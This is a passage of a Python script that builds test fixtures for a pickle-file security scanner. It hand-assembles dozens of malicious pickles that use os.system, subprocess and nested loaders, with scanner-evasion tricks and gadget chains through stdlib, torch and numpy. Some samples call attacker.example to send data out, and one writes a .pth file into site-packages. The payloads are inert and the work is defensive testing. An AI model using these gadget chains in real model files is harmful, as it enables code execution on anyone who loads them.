        proto(4) + frame(3) + P.SHORT_BINUNICODE + b"\x02os" + ustr("system") + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE + P.STOP,
        "critical", "22", "a 3-byte FRAME ends inside SHORT_BINUNICODE 'os' "
        "(argument straddles the frame end), then os.system")
    add(f"{M}frame_too_long.pkl",
        proto(4) + frame(1 << 40) + sys_call(4) + P.STOP, "critical", "22",
        "FRAME declaring 2**40 bytes (more than remain) around os.system")

    # Broken tails, truncation, multiple streams.
    src = "import os; os.system('echo pwned')"
    add(f"{M}broken_tail_exec.pkl",
        glob("builtins", "exec") + P.MARK + P.BINUNICODE + struct.pack("<I", len(src))
        + src.encode() + P.TUPLE + P.REDUCE + b"X.\x00\x00junk" + b"\xff" * 8,
        "critical", "8", "nullifAI: cbuiltins\\nexec\\n(X...tR then a BINUNICODE whose "
        "length runs past the end (no STOP)", broken=True)
    add(f"{M}truncated_after_payload.pkl", proto(4) + sys_call(4), "critical", "8",
        "os.system REDUCE, then end of file without STOP", broken=True)
    add(f"{M}bad_opcode_after_payload.pkl", proto(4) + sys_call(4) + b"\xfe\xfd" + P.STOP,
        "critical", "8", "os.system REDUCE, then an invalid opcode byte 0xfe", broken=True)
    benign = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
    add(f"{M}multi_stream_benign_then_os_system.pkl",
        benign + pk(sys_call(4)), "critical", "-",
        "two concatenated pickles: benign dict, then os.system (scan past the first STOP)")
    add(f"{M}multi_stream_benign_then_requests.pkl",
        pickle.dumps(["a", "b"], protocol=0) + pk(call(sglob("requests.api", "get"),
                                                      "http://attacker.example/")),
        "high", "-", "picklescan malicious6: benign pickle, then requests.api.get")
    add(f"{M}multi_stream_three.pkl",
        benign + benign + pickle.dumps(Reduce(os.system, (CMD,)), protocol=2),
        "critical", "-", "three concatenated pickles, payload in the third")
    add(f"{M}trailing_garbage_after_payload.pkl",
        pk(sys_call(4)) + b"\x00garbage\xff", "critical", "8",
        "os.system pickle, then bytes that are not a pickle", broken=True)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("data.txt", date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, "benign")
    add(f"{M}polyglot_pickle_then_zip.pkl", pk(sys_call(4)) + buf.getvalue(),
        "critical", "19", "os.system pickle at offset 0 followed by a benign zip "
        "(EOCD at the end)", broken=True)
    add(f"{M}raw_pickle_as.bin", pickle.dumps(Reduce(os.system, (CMD,)), protocol=2),
        "critical", "15", "a raw os.system pickle with a PyTorch-style .bin extension")

    # Nested loaders.
    inner4 = pk(sys_call(4))
    add(f"{M}nested_pickle_loads.pkl",
        gadget("pickle", "loads", inner4), "critical", "27",
        "pickle.loads(constant bytes holding an os.system pickle)")
    add(f"{M}nested__pickle_loads.pkl",
        gadget("_pickle", "loads", inner4), "critical", "27",
        "_pickle.loads(constant bytes holding an os.system pickle)")
    add(f"{M}nested_pickle_loads_p0.pkl",
        call0(glob("pickle", "loads"), inner) + P.STOP, "critical", "27",
        "protocol 0: GLOBAL pickle loads of bytes built by _codecs.encode (picklescan 13a)")
    add(f"{M}nested_pickle_loads_benign_inner.pkl",
        gadget("_pickle", "loads", pickle.dumps([1, 2, 3], protocol=4)), "critical", "27",
        "_pickle.loads of a harmless inner pickle: the loader itself is the finding")
    add(f"{M}nested_pickle_private_loads.pkl",
        gadget("pickle", "_loads", inner4), "critical", "38",
        "pickle._loads (pure-Python loader, hook bypass) of an os.system pickle")
    add(f"{M}nested_unpickler_load.pkl",
        pk(sglob("pickle", "Unpickler.load")
           + sglob("pickle", "Unpickler") + call(sglob("io", "BytesIO"), inner4)
           + P.TUPLE1 + P.REDUCE + P.TUPLE1 + P.REDUCE), "critical", "38",
        "pickle.Unpickler(io.BytesIO(inner)).load via the dotted 'Unpickler.load'")
    add(f"{M}nested_torch_load_from_bytes.pkl",
        gadget("torch.storage", "_load_from_bytes", inner4), "critical", "27,29",
        "torch.storage._load_from_bytes(bytes) whose bytes are an os.system pickle "
        "(benign torch pickles use this loader with a legacy torch.save stream)")
    add(f"{M}nested_lib2to3_grammar_loads.pkl",
        pk(call(sglob("lib2to3.pgen2.grammar", "Grammar.loads"), None, inner4)),
        "critical", "31", "lib2to3.pgen2.grammar.Grammar.loads(self, pickle bytes) "
        "(self is a placeholder)")
    add(f"{M}nested_zlib_eval.pkl",
        pk(sglob("builtins", "eval") + call(sglob("zlib", "decompress"),
                                            __import__("zlib").compress(b"1+1", 9))
           + P.TUPLE1 + P.REDUCE), "critical", "35",
        "eval(zlib.decompress(...)): payload text hidden from string scanners")

    # BUILD attribute overwrites on globals.
    add(f"{M}build_numpy_prod_attr.pkl",
        pk(sglob("numpy", "prod") + c((None, {"a": "os", "b": "system"})) + P.BUILD + P.POP
           + glob("numpy", "prod.a") + P.MEMOIZE + glob("numpy", "prod.b") + P.MEMOIZE
           + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE), "critical", "2",
        "modelscan #85: BUILD sets numpy.prod.a='os', .b='system'; dotted GLOBALs "
        "read them back into STACK_GLOBAL -> os.system")
    add(f"{M}build_sys_module_override.pkl",
        pk(glob("torch", "_utils") + P.MEMOIZE
           + c((None, {"_rebuild_tensor": "builtins"})) + P.BUILD + P.POP
           + sglob("torch._utils", "_rebuild_tensor") + P.MEMOIZE + P.POP
           + P.BINGET + b"\x00" + c((None, {"_rebuild_tensor": "eval"})) + P.BUILD + P.POP
           + P.BINGET + b"\x01" + sglob("torch._utils", "_rebuild_tensor")
           + P.STACK_GLOBAL + c(("1+1",)) + P.REDUCE), "critical", "2",
        "picklescan sys_module_override: BUILD on the torch._utils module rebinds "
        "_rebuild_tensor to 'builtins' then 'eval'; chained STACK_GLOBAL -> builtins.eval")

    # Calls hidden by POP, odd opcodes around payloads.
    add(f"{M}obj_discarded_by_pop_system.pkl",
        pk(P.MARK + sglob("os", "system") + c(CMD) + P.OBJ + P.POP + c("ok")),
        "critical", "36", "OBJ os.system whose result is POPped; the pickle returns 'ok'")
    add(f"{M}obj_discarded_by_pop_smtp.pkl",
        pk(P.MARK + sglob("smtplib", "SMTP") + c("attacker.example") + c(25) + P.OBJ
           + P.POP + P.NONE), "high", "36",
        "fickling GHSA-mxhj: OBJ smtplib.SMTP discarded by POP")
    add(f"{M}newobj_discarded_by_pop.pkl",
        pk(sglob("subprocess", "Popen") + c((["sh", "-c", CMD],)) + P.NEWOBJ + P.POP
           + P.NONE), "critical", "36", "NEWOBJ subprocess.Popen discarded by POP")
    add(f"{M}ext1_reduce.pkl",
        proto(2) + P.EXT1 + b"\x01" + c((CMD,)) + P.REDUCE + P.STOP, "high", "-",
        "EXT1 code 1 (copyreg extension registry, unresolvable statically) called by REDUCE")
    add(f"{M}ext2_after_payload.pkl",
        proto(2) + sys_call(2) + P.POP + P.EXT2 + b"\x34\x12" + P.STOP, "critical", "-",
        "os.system, then EXT2 (scanners that crash on EXT* lose the finding)")
    add(f"{M}ext4_after_payload.pkl",
        proto(2) + sys_call(2) + P.POP + P.EXT4 + b"\x78\x56\x34\x12" + P.STOP, "critical", "-",
        "os.system, then EXT4")
    add(f"{M}persid_after_payload.pkl",
        call0(glob("os", "system"), CMD) + P.POP + P.PERSID + b"0\n" + P.STOP,
        "critical", "-", "os.system (protocol 0), then PERSID")
    add(f"{M}binpersid_after_payload.pkl",
        pk(sys_call(4) + P.POP + c(("storage", "x")) + P.BINPERSID), "critical", "-",
        "os.system, then BINPERSID of a tuple")
    add(f"{M}bytearray8_then_payload.pkl",
        pk(P.BYTEARRAY8 + struct.pack("<Q", 16) + bytes(16) + P.POP + sys_call(4), 5),
        "critical", "-", "protocol 5: BYTEARRAY8 operand, then os.system")
    add(f"{M}next_buffer_after_payload.pkl",
        pk(sys_call(4) + P.POP + P.NEXT_BUFFER + P.READONLY_BUFFER, 5), "critical", "-",
        "os.system, then NEXT_BUFFER/READONLY_BUFFER (out-of-band buffers)")
    add(f"{M}fickling_remove_hook.pkl",
        pk(call(sglob("fickling.hook", "remove_hook")) + P.POP + sys_call(4)),
        "critical", "37", "fickling.hook.remove_hook() (scanner-hook deactivation), then "
        "os.system")

    # The gadget list: one file per gadget. args are inert; self arguments of
    # unbound methods are placeholders (None) unless the sample builds one.
    # Rows without module/qualname are assembled in `special` below.
    code_src = "import os\nos.system('echo pwned')\n"
    code = compile(code_src, "<pickle>", "exec")
    code_bytes = marshal.dumps(code)
    code_args = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount,
                 code.co_nlocals, code.co_stacksize, code.co_flags, code.co_code,
                 code.co_consts, code.co_names, code.co_varnames, code.co_filename,
                 code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable,
                 code.co_exceptiontable, code.co_freevars, code.co_cellvars)
    make_code = call(sglob("types", "CodeType"), *code_args)
    shell = ["sh", "-c", CMD]
    G = [
        # (file stem, module, qualname, args, expect, catalogue, note)
        ("pkgutil_resolve_name", None, None, None, "critical", "28", ""),
        ("importlib_import_module", "importlib", "import_module", ("os",), "critical", "31", ""),
        ("runpy_run_code", "runpy", "_run_code", (code_src, {}), "critical", "27", ""),
        ("pdb_run", "pdb", "run", (code_src,), "critical", "27", ""),
        ("cprofile_run", "cProfile", "run", (code_src,), "critical", "31", ""),
        ("cprofile_runctx", "cProfile", "runctx", (code_src, {}, {}), "critical", "31", ""),
        ("profile_run", "profile", "run", (code_src,), "critical", "31", ""),
        ("timeit_timeit", "timeit", "timeit", (code_src,), "critical", "31", ""),
        ("doctest_debug_script", "doctest", "debug_script", (code_src,), "critical", "31", ""),
        ("idlelib_run_executive_runcode", "idlelib.run", "Executive.runcode",
         (None, code_src), "critical", "31", "self placeholder"),
        ("idlelib_pyshell_runcommand", "idlelib.pyshell", "ModifiedInterpreter.runcommand",
         (None, code_src), "critical", "31", "self placeholder"),
        ("idlelib_debugobj_settext", "idlelib.debugobj", "ObjectTreeItem.SetText",
         (None, "__import__('os').system('echo pwned')"), "critical", "31",
         "self placeholder"),
        ("idlelib_calltip_get_entity", "idlelib.calltip", "get_entity",
         ("__import__('os').system('echo pwned')",), "critical", "31", ""),
        ("idlelib_calltip_fetch_tip", "idlelib.calltip", "Calltip.fetch_tip",
         (None, "__import__('os').system('echo pwned')"), "critical", "31", "self placeholder"),
        ("idlelib_autocomplete_fetch_completions", "idlelib.autocomplete",
         "AutoComplete.fetch_completions", (None, "__import__('os').system('echo pwned')", 1),
         "critical", "31", "self placeholder"),
        ("lib2to3_make_label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label",
         (None, None, "'__import__(\"os\").system(\"echo pwned\")'"), "critical", "31",
         "eval of a label; self placeholder"),
        ("ensurepip_run_pip", "ensurepip", "_run_pip", (["install", "evil"],), "critical",
         "31", ""),
        ("venv_create", "venv", "create", ("/tmp/v", False, False, False, True,
                                          "$(echo pwned)"), "critical", "31",
         "with_pip=True, prompt='$(echo pwned)' (picklescan malicious20)"),
        ("pip_main", "pip", "main", (["install", "evil"],), "critical", "26", "CVE-2025-1716"),
        ("pydoc_pipepager", "pydoc", "pipepager", ("text", CMD), "critical", "31", ""),
        ("pydoc_locate", "pydoc", "locate", ("os.system",), "critical", "31", ""),
        ("imaplib_imap4_stream", "imaplib", "IMAP4_stream", (CMD,), "critical", "31", ""),
        ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ("echo", "pwned"),
         "critical", "31", ""),
        ("osx_support_read_output", "_osx_support", "_read_output", (CMD,), "critical", "31",
         ""),
        ("osx_support_find_build_tool", "_osx_support", "_find_build_tool", ("x; echo pwned",),
         "critical", "31", ""),
        ("aix_support_read_cmd_output", "_aix_support", "_read_cmd_output", (CMD,), "critical",
         "31", ""),
        ("pyrepl_pipe_pager", "_pyrepl.pager", "pipe_pager", ("text", CMD), "critical", "31",
         "Python 3.13+ module"),
        ("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok",
         ("-c", code_src), "critical", "31", ""),
        ("multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds",
         (b"/bin/sh", [b"sh", b"-c", CMD.encode()], ()), "critical", "31", ""),
        ("posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec",
         ([b"/bin/sh", b"-c", CMD.encode()], [b"/bin/sh"], True, (), None, None,
          -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None, False),
         "critical", "31", ""),
        ("distutils_write_file", "distutils.file_util", "write_file",
         ("/tmp/evil.pth", ["import os"]), "high", "31", "file write"),
        ("logging_filehandler", "logging", "FileHandler", ("/tmp/x.log", "w"), "high", "31",
         "file create/truncate"),
        ("io_fileio", "_io", "FileIO", ("/tmp/x", "w"), "high", "31", "file create/truncate"),
        ("urllib_request_urlopen", "urllib.request", "urlopen", ("http://attacker.example/",),
         "high", "31", "network"),
        ("ssl_get_server_certificate", "ssl", "get_server_certificate",
         (("secret.exfil.attacker.example", 443),), "high", "31", "DNS exfiltration"),
        ("ctypes_cdll", "ctypes", "CDLL", ("/tmp/evil.so",), "critical", "31",
         "loads native code"),
        ("pty_spawn", "pty", "spawn", ("/bin/sh",), "critical", "31", ""),
        ("marshal_loads", "marshal", "loads", (code_bytes,), "critical", "31",
         "code object from bytes (see marshal_functiontype for the full chain)"),
        ("torch_collect_env_run", "torch.utils.collect_env", "run", (CMD,), "critical", "29", ""),
        ("torch_collect_env_run_and_read_all", "torch.utils.collect_env", "run_and_read_all",
         (None, CMD), "critical", "29", "run_lambda placeholder"),
        ("torch_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile",
         (code_src, {}), "critical", "29", ""),
        ("torch_bottleneck_run_autograd_prof", "torch.utils.bottleneck.__main__",
         "run_autograd_prof", (code_src, {}), "critical", "29", ""),
        ("torch_dynamo_guardbuilder_get", "torch._dynamo.guards", "GuardBuilder.get",
         (None, "__import__('os').system('echo pwned')"), "critical", "29",
         "eval of a guard name; self placeholder"),
        ("torch_shapeenv_evaluate_guards_expression",
         "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
         (None, "__import__('os').system('echo pwned')", []), "critical", "29",
         "eval; self placeholder"),
        ("torch_jit_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper",
         (code_src, {}, {}), "critical", "29", ""),
        ("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file",
         (["/tmp/x.c"], "/tmp/x.so", ["sh", "-c", CMD]), "critical", "29", ""),
        ("torch_config_module_load_config", "torch.utils._config_module",
         "ConfigModule.load_config", (None, inner4), "critical", "29",
         "nested pickle; self placeholder"),
        ("torch_datapipes_basichandlers", "torch.utils.data.datapipes.utils.decoder",
         "basichandlers", ("pickle", inner4), "critical", "29", "nested pickle"),
        ("torch_hub_load", "torch.hub", "load", ("attacker/repo", "model"), "critical", "29",
         "remote code"),
        ("torch_load", "torch", "load", ("/tmp/evil.pt",), "critical", "29",
         "nested loader"),
        ("torch_serialization_load", "torch.serialization", "load", ("/tmp/evil.pt",),
         "critical", "29", "nested loader"),
        ("numpy_runstring", "numpy.testing._private.utils", "runstring", (code_src, {}),
         "critical", "30", "exec"),
        ("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef",
         ("__import__('os').system('echo pwned')", {}), "critical", "30", "eval"),
        ("numpy_f2py_eval_length", "numpy.f2py.crackfortran", "_eval_length",
         ("__import__('os').system('echo pwned')", {}), "critical", "30", "eval"),
        ("numpy_load", "numpy", "load", ("/tmp/evil.npy", None, True), "critical", "30",
         "allow_pickle=True: nested loader"),
        ("mailcap_findmatch", "mailcap", "findmatch",
         ({"text/plain": [{"view": "cat", "test": CMD}]}, "text/plain"), "critical", "32",
         "runs os.system(test)"),
        ("webbrowser_open", "webbrowser", "open", ("http://attacker.example/",), "high", "32",
         "launches a browser process"),
        ("socket_create_connection", "socket", "create_connection",
         (("attacker.example", 4444),), "high", "31", "network"),
        ("subprocess_run", "subprocess", "run", (shell,), "critical", "27", ""),
        ("subprocess_popen", "subprocess", "Popen", (shell,), "critical", "27", ""),
        ("subprocess_check_output", "subprocess", "check_output", (shell,), "critical", "27", ""),
        ("requests_api_get", "requests.api", "get", ("http://attacker.example/",), "high", "-",
         "picklescan malicious4"),
        ("aiohttp_clientsession", "aiohttp.client", "ClientSession", (), "high", "-",
         "picklescan malicious5"),
        ("http_client_httpsconnection", "http.client", "HTTPSConnection",
         ("attacker.example",), "high", "-", ""),
        ("shutil_rmtree", "shutil", "rmtree", ("/tmp/victim",), "high", "-", "file deletion"),
        ("sys_exit", "sys", "exit", (1,), "high", "-", "process exit (the sys module is "
         "denylisted: sys.modules reaches any module)"),
        ("smtplib_smtp", "smtplib", "SMTP", ("attacker.example", 25), "high", "-", "network"),
        ("operator_attrgetter", None, None, None, "critical", "27,31", ""),
        ("operator_methodcaller", None, None, None, "critical", "31", ""),
        ("operator_itemgetter", None, None, None, "critical", "31", ""),
        ("marshal_functiontype", None, None, None, "critical", "31", ""),
        ("types_codetype", None, None, None, "critical", "31", ""),
        ("cloudpickle_make_function", None, None, None, "critical", "31", ""),
        ("bdb_run_p4", "bdb", "Bdb.run", None, "critical", "27", ""),
        ("bdb_run_p2", None, None, None, "critical", "27", ""),
        ("trace_run", None, None, None, "critical", "31", ""),
        ("code_interactive_runcode", None, None, None, "critical", "31", ""),
        ("functools_partial_torch_load", None, None, None, "critical", "29", ""),
        ("pathlib_write_text", None, None, None, "high", "32", ""),
        ("transformers_getattribute_from_module", None, None, None, "critical", "34", ""),
    ]
    special = {
        "pkgutil_resolve_name": (
            call(sglob("pkgutil", "resolve_name"), "os:system") + c((CMD,)) + P.REDUCE,
            "pkgutil.resolve_name('os:system')('echo pwned'): resolves any module:attr"),
        "operator_attrgetter": (
            call(sglob("operator", "attrgetter"), "system")
            + call(sglob("builtins", "__import__"), "os") + P.TUPLE1 + P.REDUCE
            + c((CMD,)) + P.REDUCE,
            "operator.attrgetter('system')(__import__('os'))('echo pwned') (picklescan 12)"),
        "operator_methodcaller": (
            call(sglob("_operator", "methodcaller"), "system", CMD)
            + call(sglob("importlib", "import_module"), "os") + P.TUPLE1 + P.REDUCE,
            "_operator.methodcaller('system', cmd)(importlib.import_module('os'))"),
        "operator_itemgetter": (
            call(sglob("_operator", "itemgetter"), "system")
            + sglob("builtins", "vars") + call(sglob("builtins", "__import__"), "os")
            + P.TUPLE1 + P.REDUCE + P.TUPLE1 + P.REDUCE + c((CMD,)) + P.REDUCE,
            "_operator.itemgetter('system')(vars(__import__('os')))('echo pwned')"),
        "marshal_functiontype": (
            sglob("types", "FunctionType") + call(sglob("marshal", "loads"), code_bytes)
            + c({}) + P.TUPLE2 + P.REDUCE + P.EMPTY_TUPLE + P.REDUCE,
            "types.FunctionType(marshal.loads(code), {})()"),
        "types_codetype": (
            sglob("types", "FunctionType") + make_code + c({}) + P.TUPLE2 + P.REDUCE
            + P.EMPTY_TUPLE + P.REDUCE,
            "types.FunctionType(types.CodeType(<3.11 fields>), {})()"),
        "bdb_run_p4": (
            sglob("bdb", "Bdb.run") + sglob("bdb", "Bdb") + P.EMPTY_TUPLE + P.REDUCE
            + c(code_src) + P.TUPLE2 + P.REDUCE,
            "bdb.Bdb.run(bdb.Bdb(), src) via dotted 'Bdb.run' (protocol 4)"),
        "trace_run": (
            sglob("trace", "Trace.run") + sglob("trace", "Trace") + P.EMPTY_TUPLE + P.REDUCE
            + c(code_src) + P.TUPLE2 + P.REDUCE,
            "trace.Trace.run(trace.Trace(), src)"),
        "code_interactive_runcode": (
            sglob("code", "InteractiveInterpreter.runcode")
            + sglob("code", "InteractiveInterpreter") + P.EMPTY_TUPLE + P.REDUCE
            + c(code_src) + P.TUPLE2 + P.REDUCE,
            "code.InteractiveInterpreter.runcode(InteractiveInterpreter(), src)"),
        "pathlib_write_text": (
            sglob("pathlib", "Path.write_text") + sglob("pathlib", "PosixPath")
            + c(("/usr/lib/python3/dist-packages", "evil.pth")) + P.REDUCE
            + c("import os; os.system('echo pwned')") + P.TUPLE2 + P.REDUCE,
            "pathlib.Path.write_text(PosixPath(site-packages/evil.pth), code): "
            "a .pth file runs at the next interpreter start"),
        "transformers_getattribute_from_module": (
            sglob("transformers.models.auto.auto_factory", "getattribute_from_module")
            + sglob("transformers", "AutoTokenizer") + c("from_pretrained") + P.TUPLE2
            + P.REDUCE + c(("attacker/repo",)) + P.REDUCE,
            "getattribute_from_module(AutoTokenizer, 'from_pretrained')('attacker/repo'): "
            "indirect model load"),
        "cloudpickle_make_function": (
            sglob("cloudpickle.cloudpickle", "_make_function") + P.MARK + make_code + c({})
            + c("f") + P.NONE + P.NONE + P.TUPLE + P.REDUCE + P.EMPTY_TUPLE + P.REDUCE,
            "cloudpickle _make_function(types.CodeType(...), {}, 'f', None, None)()"),
        "functools_partial_torch_load": (
            sglob("functools", "partial") + sglob("torch", "load") + P.TUPLE1 + P.REDUCE
            + P.MARK + sglob("torch", "load") + c(("/tmp/evil.pt",))
            + c({"pickle_file": "evil.pkl", "weights_only": False}) + P.NONE + P.TUPLE
            + P.BUILD + P.EMPTY_TUPLE + P.REDUCE,
            "functools.partial(torch.load, path, weights_only=False)() as CPython pickles "
            "a partial: REDUCE then BUILD (func, args, kwds, dict)"),
    }
    for stem, mod, qual, args, expect, cat, note in G:
        if stem == "bdb_run_p2":
            data = pk(glob("builtins", "getattr") + glob("bdb", "Bdb") + P.EMPTY_TUPLE
                      + P.REDUCE + c("run") + P.TUPLE2 + P.REDUCE + c((code_src,))
                      + P.REDUCE, 2)
            note = "getattr(bdb.Bdb(), 'run')(src) at protocol 2 (how a bound method pickles)"
        elif stem in special:
            body, note = special[stem]
            data = pk(body)
        else:
            data = gadget(mod, qual, *args)
            note = f"{mod}.{qual}" + (f" ({note})" if note else "")
        add(f"{M}gadget_{stem}.pkl", data, expect, cat, note)

    add_sample("evil.pkl", pickle.dumps(Reduce(os.system, (CMD,)), protocol=4))


# ------------------------------------------------------------------- checks
CALLS = {"REDUCE", "OBJ", "INST", "NEWOBJ", "NEWOBJ_EX"}


def calls_before_error(data):
    """Call opcodes that genops decodes before the first error, over every
    concatenated stream."""
    seen, f = [], io.BytesIO(data)
    try:
        while f.tell() < len(data):
            for op, _, _ in pickletools.genops(f):
                if op.name in CALLS:
                    seen.append(op.name)
    except ValueError:
        pass
    return seen


def check(relpath, data, broken):
    """Disassemble every stream in data with pickletools (which neither
    imports nor calls anything). Return a one-line status. A file that is
    meant to break must break only after a call opcode."""
    pos, streams = 0, 0
    while pos < len(data):
        f = io.BytesIO(data[pos:])
        try:
            pickletools.dis(f, out=io.StringIO())
        except Exception as e:  # pickletools raises ValueError and friends
            if not broken:
                raise SystemExit(f"{relpath}: stream {streams} at {pos}: {e!r}")
            if not calls_before_error(data):
                raise SystemExit(f"{relpath}: breaks before any call opcode: {e!r}")
            return f"stops as intended after {streams} stream(s): {type(e).__name__}: {e}"
        streams += 1
        pos += f.tell()
    if broken:
        return f"{streams} stream(s), well-formed for pickletools (flaw is semantic)"
    return f"{streams} stream(s) ok"


def versions():
    out = subprocess.run(["dpkg-query", "-W", "-f", "${Package} ${Version}\n"]
                         + DEBIAN_PACKAGES, capture_output=True, text=True, check=False)
    return out.stdout.strip().splitlines()


README = """# testdata/pickle

Real and crafted pickles for the pickle analyzer (`formats/pickle`).

- `benign/`: pickles written by the real libraries (plain data at protocols 0-5,
  numpy, scikit-learn, torch via `pickle.dumps`, OrderedDict, datetime, a
  1 M-opcode list and a 20 MiB bytes blob). A correct scanner reports nothing
  at `medium` or above.
- `malicious/`: hand-assembled pickles, one technique of the bypass catalogue
  (`../shared/reference/pickle-anchors.md` section 4) per file. Payloads are inert
  (`echo pwned`); the files were never loaded, only disassembled with `pickletools`.
- `samples.tsv`: `path<TAB>expect<TAB>catalogue<TAB>note`. `expect` is `clean` or the
  minimum severity a correct scanner must report (`critical`: code execution,
  process, import, nested loaders, dynamic imports; `high`: file or network I/O);
  `catalogue` is the section-4 row number(s), `-` when none applies.

Some malicious files are deliberately malformed after their payload (truncated,
garbage after STOP, missing memo key, bad opcode): a scanner must keep the
finding it made before the error.

`benign/torch_*.pkl` call `torch.storage._load_from_bytes` with constant bytes
that hold a legacy `torch.save` stream (five stacked pickles, then raw storage
bytes): that is how torch tensors pickle with plain `pickle.dumps`.

## Regenerate

    /usr/bin/python3 testdata/pickle/make_samples.py

(Debian's interpreter: the pyenv `python3` on PATH lacks the libraries.) The
script is deterministic: it re-executes itself with `PYTHONHASHSEED=0`, seeds
every model and fixes zip timestamps. It also rewrites `testdata/sample/model.pkl`
(a small scikit-learn model) and `testdata/sample/evil.pkl` (os.system "echo pwned").

## Made with (Debian bookworm)

{versions}
"""


def main():
    make_benign()
    make_malicious()
    for sub in ("benign", "malicious"):
        d = os.path.join(HERE, sub)
        os.makedirs(d, exist_ok=True)
        for name in os.listdir(d):
            os.remove(os.path.join(d, name))
    total = 0
    rows = ["path\texpect\tcatalogue\tnote"]
    for relpath, data, expect, cat, note, broken in SAMPLES:
        with open(os.path.join(HERE, relpath), "wb") as f:
            f.write(data)
        total += len(data)
        status = check(relpath, data, broken)
        print(f"{relpath}\t{len(data)}\t{status}")
        assert "\t" not in note and "\n" not in note, relpath
        rows.append(f"{relpath}\t{expect}\t{cat}\t{note}")
    with open(os.path.join(HERE, "samples.tsv"), "w") as f:
        f.write("\n".join(rows) + "\n")
    vers = versions()
    with open(os.path.join(HERE, "README.md"), "w") as f:
        f.write(README.format(versions="\n".join(f"- {v}" for v in vers)))
    n_ben = sum(1 for s in SAMPLES if s[0].startswith("benign/"))
    print(f"{len(SAMPLES)} samples ({n_ben} benign, {len(SAMPLES) - n_ben} malicious), "
          f"{total} bytes")
    for v in vers:
        print(v)


if __name__ == "__main__":
    main()
